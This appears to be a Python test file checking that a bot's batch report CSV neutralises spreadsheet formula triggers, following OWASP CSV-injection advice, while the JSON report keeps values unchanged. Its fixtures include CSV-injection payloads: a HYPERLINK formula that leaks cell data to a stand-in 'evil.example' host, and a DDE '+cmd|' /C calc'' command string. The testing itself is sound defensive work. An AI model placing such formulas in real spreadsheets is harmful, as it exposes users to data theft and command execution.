"""report.csv is safe to open in a spreadsheet: a cell that would start a formula (`= + - @`,
tab, CR) gets a leading single quote (OWASP's CSV-injection advice); numbers stay numbers;
report.json keeps every value exactly as it was."""

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

from bot.engine.batches.report import COLUMNS, write_report
from bot.engine.batches.service import settle_batches
from bot.services import Services
from commands.batch import plan_manifest, submit_plan
from commands.context import Caller
from domain.spreadsheet import neutralise_cell
from storage import batches as batches_repo

CALLER = Caller("test", user_id="U1", channel_id="C1")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def test_formula_triggers_are_neutralised_and_numbers_kept() -> None:
    assert neutralise_cell(FORMULA) == "'" + FORMULA
    for risky in ("+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "=1"):
        assert neutralise_cell(risky) == "'" + risky
    for number in (-5, -0.25, 120, 0, 3.5):
        assert neutralise_cell(number) == number  # a number is written as a number
    for numeric_text in ("-12", "-0.5", "+3", "1e5", "-1.5E-3"):
        assert neutralise_cell(numeric_text) == numeric_text  # read as a number, not a formula
    for plain in ("piano, calm", "", "C minor", "4/4", "morning;calm", True):
        assert neutralise_cell(plain) == plain
    assert neutralise_cell("-") == "'-"
    assert neutralise_cell("-1+1") == "'-1+1"


def test_report_csv_is_neutralised_and_report_json_unchanged(tmp_path: Path) -> None:
    row: dict[str, object] = dict.fromkeys(COLUMNS, "")
    row |= {"caption": FORMULA, "tags": "@cmd;=x", "bpm": -5, "seed": "-12", "track_id": 1}
    json_path, csv_path = write_report(tmp_path, {"tracks_made": 1}, [row])
    [written] = list(csv.DictReader(io.StringIO(csv_path.read_text())))
    assert written["caption"] == "'" + FORMULA
    assert written["tags"] == "'@cmd;=x"
    assert (written["bpm"], written["seed"], written["track_id"]) == ("-5", "-12", "1")
    assert json.loads(json_path.read_text())["tracks"][0]["caption"] == FORMULA


async def test_a_manifest_caption_formula_does_not_reach_the_report_csv(
    services: Services,
) -> None:
    manifest = io.StringIO()
    csv.writer(manifest).writerows(
        [("caption", "duration", "count", "tags", "format"), (FORMULA, "10s", 1, "=cmd", "wav")]
    )
    plan, source = plan_manifest(manifest.getvalue().encode(), "evil.csv", services, seed=1)
    reply = await submit_plan(services, CALLER, plan, source, confirmed=True)
    assert reply.batch_id == 1, reply.plain()
    await services.engine.run_until_idle()
    await settle_batches(services, now=datetime.now(UTC))
    batch = await batches_repo.get_batch(services.db, 1)
    assert batch is not None
    text = Path(batch.details["summary"]["report_csv"]).read_text()
    [written] = list(csv.DictReader(io.StringIO(text)))
    assert written["caption"].startswith("'=HYPERLINK(")
    assert written["tags"] == "'=cmd"
    assert not any(value.startswith(("=", "+", "@")) for value in written.values())
    document = json.loads(Path(batch.details["summary"]["report_json"]).read_text())
    assert document["tracks"][0]["caption"].startswith("=HYPERLINK(")
